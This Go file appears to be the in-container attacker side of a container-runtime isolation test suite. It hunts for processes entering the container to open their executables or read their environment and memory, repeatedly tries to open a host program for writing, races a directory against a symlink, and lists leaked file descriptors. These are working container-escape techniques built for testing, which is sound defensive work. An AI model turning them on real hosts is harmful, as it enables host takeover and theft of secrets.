package attacks

import (
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// insideMain is what the attacker does inside a container.
func insideMain(args []string) int {
	attacks := map[string]func(args []string) error{
		"hunt": hunt, "descriptors": descriptors, "swap": swap, "terminal": stealTerminal, "capabilities": useCapabilities,
	}
	if len(args) == 0 || attacks[args[0]] == nil {
		fmt.Println("inside: which attack?")
		return 2
	}
	if err := attacks[args[0]](args[1:]); err != nil {
		fmt.Println("inside:", err)
		return 1
	}
	return 0
}

// hunt looks for processes that arrive in the container's pid namespace, for a
// number of seconds or until /tmp/stop exists, and tries to get hold of what
// they have: their program, memory and environment. It prints how many it was
// denied, and what became of those that it caught.
func hunt(args []string) error {
	seconds, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	h := hunter{own: map[string]bool{}, denied: map[string]int{}, caught: map[int]string{}}
	for _, name := range []string{"/bin/inside", "/bin/busybox"} {
		id, err := identity(unix.AT_FDCWD, name)
		if err != nil {
			return err
		}
		h.own[id] = true
	}
	fmt.Println("hunting")
	for end := time.Now().Add(time.Duration(seconds) * time.Second); time.Now().Before(end); {
		for range 200 {
			h.look()
		}
		if _, err := os.Lstat("/tmp/stop"); err == nil {
			break
		}
	}
	return h.report()
}

type hunter struct {
	own    map[string]bool // programs of the container's own
	denied map[string]int
	caught map[int]string // descriptor to program
	stolen []string       // environment and memory
}

// identity is a file's device and inode.
func identity(dir int, name string) (string, error) {
	var st unix.Stat_t
	flags := 0
	if name == "" {
		flags = unix.AT_EMPTY_PATH
	}
	if err := unix.Fstatat(dir, name, &st, flags); err != nil {
		return "", err
	}
	return fmt.Sprintf("%d:%d", st.Dev, st.Ino), nil
}

// look tries the processes that are there now. PIDs are given out in order, so
// the next few numbers are tried too, which is faster than reading /proc.
func (h *hunter) look() {
	d, err := os.Open("/proc")
	if err != nil {
		return
	}
	names, _ := d.Readdirnames(-1)
	d.Close()
	last := 0
	for _, n := range names {
		if pid, err := strconv.Atoi(n); err == nil && pid != os.Getpid() {
			h.try(pid)
			last = max(last, pid)
		}
	}
	for range 20 {
		for pid := last + 1; pid <= last+3; pid++ {
			h.try(pid)
		}
	}
}

func (h *hunter) try(pid int) {
	dir := "/proc/" + strconv.Itoa(pid)
	fd, err := unix.Open(dir+"/exe", unix.O_PATH, 0)
	switch {
	case errors.Is(err, unix.EACCES), errors.Is(err, unix.EPERM):
		h.denied["exe"]++
		h.tryMemory(dir)
		return
	case err != nil:
		return
	}
	id, err := identity(fd, "")
	if err != nil || h.own[id] || len(h.caught) > 20 {
		unix.Close(fd)
		return
	}
	h.own[id] = true // once is enough
	name, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
	h.caught[fd] = name
}

// tryMemory is for a process that keeps its program from us.
func (h *hunter) tryMemory(dir string) {
	for _, name := range []string{"environ", "mem", "auxv", "maps", "fd", "cwd", "root", "ns/mnt", "map_files"} {
		f, err := os.Open(dir + "/" + name)
		switch {
		case errors.Is(err, unix.EACCES), errors.Is(err, unix.EPERM):
			h.denied[name]++
		case err == nil:
			// The process may be another by now, which executed the container's
			// own program: what counts is what can be read.
			b, _ := io.ReadAll(io.LimitReader(f, 4096))
			f.Close()
			if strings.Contains(string(b), "SECRET") {
				h.stolen = append(h.stolen, name)
			}
		}
	}
}

func (h *hunter) report() error {
	for name, n := range h.denied {
		fmt.Printf("denied-%s %d\n", name, n)
	}
	fmt.Printf("caught %d\n", len(h.caught))
	for _, s := range h.stolen {
		fmt.Printf("stolen-%s yes\n", s)
	}
	for fd, name := range h.caught {
		var st unix.Statfs_t
		if err := unix.Fstatfs(fd, &st); err != nil {
			return err
		}
		fmt.Printf("readonly %v\n", st.Flags&unix.ST_RDONLY != 0)
		fmt.Printf("write %s %v\n", name, overwrite(fd))
	}
	return nil
}

// overwrite opens a program for writing as soon as nobody runs from it. It
// writes nothing: having it open for writing is the attack's success.
func overwrite(fd int) error {
	var err error
	for range 100 {
		var w int
		w, err = unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY, 0)
		if err == nil {
			unix.Close(w)
			return errors.New("OPENED")
		}
		if !errors.Is(err, unix.ETXTBSY) {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	return err
}

// descriptors prints every descriptor of this process and of the first one,
// and the working directory.
func descriptors([]string) error {
	buf := make([]byte, unix.PathMax)
	n, err := unix.Getcwd(buf)
	if err != nil {
		return err
	}
	fmt.Printf("cwd %s\n", strings.TrimRight(string(buf[:n]), "\x00"))
	for _, pid := range []string{"self", "1"} {
		entries, err := os.ReadDir("/proc/" + pid + "/fd")
		if err != nil {
			return err
		}
		for _, e := range entries {
			to, err := os.Readlink("/proc/" + pid + "/fd/" + e.Name())
			if err != nil || ownDescriptor(to) {
				continue
			}
			fmt.Printf("fd-%s-%s %s\n", pid, e.Name(), to)
		}
	}
	return nil
}

// ownDescriptor is one that the Go runtime or this function opened.
func ownDescriptor(to string) bool {
	return strings.HasPrefix(to, "anon_inode:[event") || strings.HasPrefix(to, "/proc/") || strings.HasPrefix(to, "/sys/fs/cgroup")
}

// swap exchanges a directory and a symbolic link as fast as it can until
// /vol/stop exists: NAME LINK-TARGET.
func swap(args []string) error {
	name, to := args[0], args[1]
	link := name + ".link"
	if err := os.Mkdir(name, 0o777); err != nil && !errors.Is(err, os.ErrExist) {
		return err
	}
	if err := os.Symlink(to, link); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(filepath.Dir(name), "swapping"), nil, 0o666); err != nil {
		return err
	}
	n := 0
	for {
		for range 100 {
			if err := unix.Renameat2(unix.AT_FDCWD, name, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err == nil {
				n++
			}
			runtime.Gosched()
		}
		if _, err := os.Lstat(filepath.Join(filepath.Dir(name), "stop")); err == nil {
			fmt.Println("swaps", n)
			return nil
		}
	}
}

// try prints how a system call ended.
func try(name string, err error) {
	var e syscall.Errno
	switch {
	case err == nil:
		fmt.Printf("%s DONE\n", name)
	case errors.As(err, &e):
		fmt.Printf("%s %s\n", name, unix.ErrnoName(e))
	default:
		fmt.Printf("%s %v\n", name, err)
	}
}
